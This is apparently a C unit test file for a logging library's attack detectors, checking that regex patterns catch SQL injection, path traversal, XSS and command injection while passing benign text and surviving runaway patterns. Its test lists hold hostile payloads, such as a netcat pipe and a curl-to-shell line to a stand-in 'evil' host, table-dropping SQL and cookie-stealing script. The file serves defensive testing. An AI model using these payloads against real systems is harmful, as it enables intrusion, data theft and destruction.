/* test_security_patterns.c: the built-in content patterns flag the attack
 * strings of their class and let ordinary text through; they scan the
 * configured fields only; a pattern that would run away is stopped by the
 * match limits and counted, not left to hang. */
#include "sec_testutil.h"

#include "security/pattern.h"

static nlog__pattern *builtin(const char *name)
{
    for (size_t i = 0; nlog__builtin_patterns[i].name; i++)
        if (strcmp(nlog__builtin_patterns[i].name, name) == 0) {
            nlog__pattern *p;
            char err[256];
            assert_int_equal(nlog__pattern_create(nlog__builtin_patterns[i].regex, &p, err, sizeof err),
                             NLOG_OK);
            return p;
        }
    fail_msg("no pattern %s", name);
    return NULL;
}

static void check(const char *name, const char *const *hits, const char *const *misses)
{
    nlog__pattern *p = builtin(name);
    for (size_t i = 0; hits[i]; i++)
        if (nlog__pattern_match(p, hits[i], strlen(hits[i])) != 1)
            fail_msg("%s missed: %s", name, hits[i]);
    for (size_t i = 0; misses[i]; i++)
        if (nlog__pattern_match(p, misses[i], strlen(misses[i])) != 0)
            fail_msg("%s flagged: %s", name, misses[i]);
    nlog__pattern_destroy(p);
}

static const char *const benign[] = {
    "/api/v2/logs/entries?level=ERROR&limit=100&search_query=database",
    "O'Brien ordered 2 items and paid 45.00",
    "select the best option or the cheapest one",
    "The union of two sets; select elements from it",
    "see ../README.md? no: docs/format.md",
    "a <b>bold</b> statement & more",
    "ls -la is a shell command people mention",
    "user_agent: Mozilla/5.0 (X11; Linux x86_64)",
    "naïve café résumé ☃",
    NULL};

static void sql_injection(void **state)
{
    (void) state;
    const char *hits[] = {"id=1' OR '1'='1", "x' or 1=1 --", "1 UNION SELECT password FROM users",
                          "1 union/**/all/**/select 1,2", "admin'--", "'; DROP TABLE users; --",
                          "1; drop table accounts", "1 AND SLEEP(5)", "pg_sleep(10)",
                          "x' AND 1=CONVERT(int, @@version)", "1' and 'a'='a",
                          "select * from information_schema.tables", NULL};
    check("sql_injection", hits, benign);
}

static void path_traversal(void **state)
{
    (void) state;
    const char *hits[] = {"../../etc/passwd", "/static/..%2f..%2fsecret", "%2e%2e%2fetc",
                          "..\\..\\windows\\win.ini", "file=/etc/shadow", "%252e%252e/",
                          "a/../b", "img.png%00.php", NULL};
    const char *misses[] = {"/docs/v1.2/guide", "version 1..2 of a range", "..hidden", NULL};
    check("path_traversal", hits, benign);
    check("path_traversal", hits, misses);
}

static void xss(void **state)
{
    (void) state;
    const char *hits[] = {"<script>alert(1)</script>", "< SCRIPT src=//evil>",
                          "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
                          "javascript:alert(document.cookie)", "<iframe src=evil>",
                          "<body onload = steal()>", "data:text/html;base64,PHNjcmlwdD4=", NULL};
    check("xss", hits, benign);
}

static void command_injection(void **state)
{
    (void) state;
    const char *hits[] = {"file.txt; cat /etc/passwd", "x && whoami", "a | nc evil 4444",
                          "`id`", "$(curl http://evil/x|sh)", "host=1.2.3.4;ping -c 1 x",
                          "a${IFS}b", "; /bin/sh -i", NULL};
    check("command_injection", hits, benign);
}

static void limits_stop_a_runaway_pattern(void **state)
{
    (void) state;
    nlog__pattern *p;
    char err[256];
    assert_int_equal(nlog__pattern_create("^(a+)+$", &p, err, sizeof err), NLOG_OK);
    char subject[64];
    memset(subject, 'a', 40);
    subject[40] = 'b';
    subject[41] = '\0';
    assert_int_equal(nlog__pattern_match(p, subject, strlen(subject)), -1);
    nlog__pattern_destroy(p);
    /* invalid UTF-8 in the subject is no error */
    assert_int_equal(nlog__pattern_create("abc", &p, err, sizeof err), NLOG_OK);
    assert_int_equal(nlog__pattern_match(p, "\xff\xfe abc", 7), 1);
    nlog__pattern_destroy(p);
    assert_int_equal(nlog__sec_pattern_check("(unclosed", err, sizeof err), NLOG_ECONFIG);
    assert_non_null(strstr(err, "offset 9"));
}

/* Through the detectors: only the pattern fields are scanned, errors are counted. */
static void detectors_scan_the_pattern_fields(void **state)
{
    (void) state;
    nlog_config in, cfg;
    nlog_error err;
    tu_config(&in, NULL);
    assert_int_equal(nlog_config_set(&in, "security.pattern_fields", "query", &err), NLOG_OK);
    assert_int_equal(nlog_config_set(&in, "security.rules",
                                     "[{name: runaway, pattern: '^(a+)+$', fields: [blob], "
                                     "group_by: ip_address}]",
                                     &err),
                     NLOG_OK);
    sec_resolved(&in, &cfg);
    nlog_security_detector *d;
    assert_int_equal(nlog_security_detector_create(&cfg, &d), NLOG_OK);
    sec_hits h = {0};
    char blob[64];
    memset(blob, 'a', 40);
    strcpy(blob + 40, "b");
    nlog_field det[] = {NLOG_META("query", "1' OR '1'='1"), NLOG_META("body", "<script>x</script>"),
                        NLOG_META("blob", blob)};
    nlog_security_event ev = {.type = NLOG_SEC_DATA_ACCESS, .ip_address = "1.1.1.1",
                              .resource = "../../etc/passwd", .details = det, .n_details = 3,
                              .timestamp_ns = SEC_T0};
    assert_int_equal(nlog_security_detector_feed(d, &ev, sec_collect, &h), NLOG_OK);
    assert_int_equal(h.n, 1); /* only the query is scanned: resource and body are not listed */
    assert_string_equal(h.last_detector, "sql_injection");
    assert_string_equal(h.last.matched_field, "query");
    assert_int_equal(h.last.type, NLOG_SEC_SUSPICIOUS_ACTIVITY);
    /* the cooldown (60 s) holds back the same address */
    ev.timestamp_ns += SEC_S(59);
    assert_int_equal(nlog_security_detector_feed(d, &ev, sec_collect, &h), NLOG_OK);
    assert_int_equal(h.n, 1);
    /* an event without an address is still flagged, as "(none)" */
    ev.ip_address = NULL;
    assert_int_equal(nlog_security_detector_feed(d, &ev, sec_collect, &h), NLOG_OK);
    assert_int_equal(h.n, 2);
    assert_string_equal(h.last_key, "(none)");
    nlog_security_stats st = {.struct_size = sizeof st};
    assert_int_equal(nlog_security_detector_stats(d, &st), NLOG_OK);
    assert_int_equal(st.pattern_errors, 3);
    assert_true(st.pattern_matches >= 3);
    nlog_security_detector_destroy(d);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(sql_injection),
        cmocka_unit_test(path_traversal),
        cmocka_unit_test(xss),
        cmocka_unit_test(command_injection),
        cmocka_unit_test(limits_stop_a_runaway_pattern),
        cmocka_unit_test(detectors_scan_the_pattern_fields),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
